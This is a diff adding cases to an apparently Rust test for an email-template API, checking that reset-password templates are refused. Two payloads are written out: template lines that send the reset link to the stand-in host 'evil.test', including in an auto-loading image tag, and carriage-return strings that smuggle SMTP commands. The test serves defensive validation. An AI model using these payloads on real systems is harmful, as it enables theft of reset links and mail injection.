@@ -231,6 +231,28 @@ async fn a_template_at_fault_is_refused_by_part_and_line() {
     .await
     .refused(422, "validation_failed");
     assert_eq!(problem["errors"][0]["code"], "template_too_large");
+    let stolen = template(
+        "{{ link }}",
+        "https://evil.test/?{{ link }}",
+        "<img src=\"https://evil.test/?{{ link }}\">",
+    );
+    let problem = put(&api, &owner, "reset_password", stolen)
+        .await
+        .refused(422, "validation_failed");
+    for place in 0..3 {
+        assert_eq!(problem["errors"][place]["code"], "link_misplaced", "{problem}");
+    }
+    let smuggled = template(
+        "x",
+        "{{ link }}\r.\rMAIL FROM:<x>",
+        "{{ link }} {{ '\\x0d.\\x0d' }}",
+    );
+    let problem = put(&api, &owner, "reset_password", smuggled)
+        .await
+        .refused(422, "validation_failed");
+    for place in 0..2 {
+        assert_eq!(problem["errors"][place]["code"], "control_character", "{problem}");
+    }
     let fine = template("x", "{{ link }}", "{{ link }}");
     put(&api, &owner, "no_such_kind", fine.clone())
         .await
